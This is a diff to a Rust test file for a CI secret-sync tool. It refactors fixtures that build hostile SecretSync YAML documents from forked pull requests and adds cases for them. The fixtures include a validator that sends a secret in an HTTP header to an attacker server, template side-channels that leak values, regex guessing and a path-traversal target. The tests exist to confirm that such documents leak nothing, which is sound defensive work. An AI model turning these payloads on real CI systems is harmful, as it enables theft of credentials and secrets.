@@ -136,19 +136,24 @@ async fn a_pull_request_is_told_what_it_would_change() -> Outcome {
     Ok(())
 }
 
-/// Documents that would carry the credential of CI, or a value, out of it, each by one more field.
-fn attacks(evil: &str) -> Vec<(&'static str, String)> {
-    let sync = |source: &str, more: &str| {
-        format!(
-            "apiVersion: penstock.dev/v1alpha1
+/// A sync of one source, with more lines for its spec, or more documents.
+fn sync(source: &str, more: &str) -> String {
+    format!(
+        "apiVersion: penstock.dev/v1alpha1
 kind: SecretSync
 metadata: {{name: app}}
 spec:
   sources: [{{name: s, {source}}}]
   targets: [{{name: env, file: {{path: app.env}}}}]
 {more}"
-        )
-    };
+    )
+}
+
+/// A source that the store's credentials may read.
+const APP: &str = "store: {name: infisical}, path: /app";
+
+/// Documents that would carry the credential of CI away, each by one thing.
+fn attacks_on_the_credential(evil: &str) -> Vec<(&'static str, String)> {
     let store = format!(
         "---
 apiVersion: penstock.dev/v1alpha1
@@ -162,7 +167,6 @@ apiVersion: v1
 kind: Secret
 metadata: {name: mine, annotations: {penstock.dev/from.clientSecret: env:INFISICAL_CLIENT_SECRET}}
 ";
-    let app = "store: {name: infisical}, path: /app";
     vec![
         (
             "a store of its own",
@@ -170,9 +174,9 @@ metadata: {name: mine, annotations: {penstock.dev/from.clientSecret: env:INFISIC
         ),
         (
             "the trusted store at another address",
-            sync(app, &store.replace("name: mine", "name: infisical")),
+            sync(APP, &store.replace("name: mine", "name: infisical")),
         ),
-        ("a credential", sync(app, secret)),
+        ("a credential", sync(APP, secret)),
         (
             "a variable",
             sync(
@@ -186,42 +190,53 @@ metadata: {name: mine, annotations: {penstock.dev/from.clientSecret: env:INFISIC
             sync("secret: {name: infisical}", ""),
         ),
         (
+            "a file above its folder",
+            sync(APP, "").replace("path: app.env", "path: ../../stores/infisical.yaml"),
+        ),
+    ]
+}
+
+/// Documents whose plan would tell about values that the store's credentials may read.
+fn attacks_on_values(evil: &str) -> Vec<(&'static str, String)> {
+    let validator = |how: &str| format!("  validate: [{{name: v, key: API_KEY, {how}}}]\n");
+    let template = |template: &str| {
+        format!("  transform: {{optional: [NO], data: {{X: {{template: '{template}'}}}}}}\n")
+    };
+    vec![
+        (
             "a validator that calls",
             sync(
-                app,
-                &format!(
-                    "  validate: [{{name: v, key: API_KEY, http: {{url: '{evil}', header: {{X: '{{{{ value }}}}'}}}}}}]\n"
-                ),
+                APP,
+                &validator(&format!(
+                    "http: {{url: '{evil}', header: {{X: '{{{{ value }}}}'}}}}"
+                )),
             ),
         ),
         (
             "a validator that guesses",
-            sync(
-                app,
-                "  validate: [{name: v, key: API_KEY, matching: ^hunter2}]\n",
-            ),
+            sync(APP, &validator("matching: ^hunter2")),
         ),
         (
             "a template that tells by failing",
             sync(
-                app,
-                "  transform: {data: {X: {template: '{% if API_KEY is startingwith(\"h\") %}{{ NO }}{% endif %}'}}}\n",
+                APP,
+                &template("{% if API_KEY is startingwith(\"h\") %}{{ NO | first }}{% endif %}"),
             ),
         ),
         (
             "a template that tells by what is absent",
             sync(
-                app,
-                "  transform:\n    optional: [NO]\n    data: {X: {template: '{{ NO if API_KEY is startingwith(\"h\") else 1 }}'}}\n",
+                APP,
+                &template("{{ NO if API_KEY is startingwith(\"h\") else 1 }}"),
             ),
         ),
         (
             "a value taken apart into names",
-            sync(&format!("{app}, extract: {{format: dotenv}}"), ""),
+            sync(&format!("{APP}, extract: {{format: dotenv}}"), ""),
         ),
         (
-            "a file above its folder",
-            sync(app, "").replace("path: app.env", "path: ../../stores/infisical.yaml"),
+            "a comparison with a guess",
+            sync(APP, "").replace("name: env,", "name: env, adopt: ifEqual,"),
         ),
     ]
 }
@@ -233,7 +248,10 @@ async fn a_pull_request_from_a_fork_carries_nothing_away() -> Outcome {
     let address = format!("http://{}", evil.local_addr()?);
     let (checkout, fake, head) = repository().await?;
     let stores = checkout.read("stores/infisical.yaml");
-    for (what, documents) in attacks(&address) {
+    let attacks = attacks_on_the_credential(&address)
+        .into_iter()
+        .chain(attacks_on_values(&address));
+    for (what, documents) in attacks {
         std::fs::write(head.join("deploy/app.yaml"), documents)?;
         let before = fake.server().seen().len();
         let (job, comment) = review(&checkout, &head);
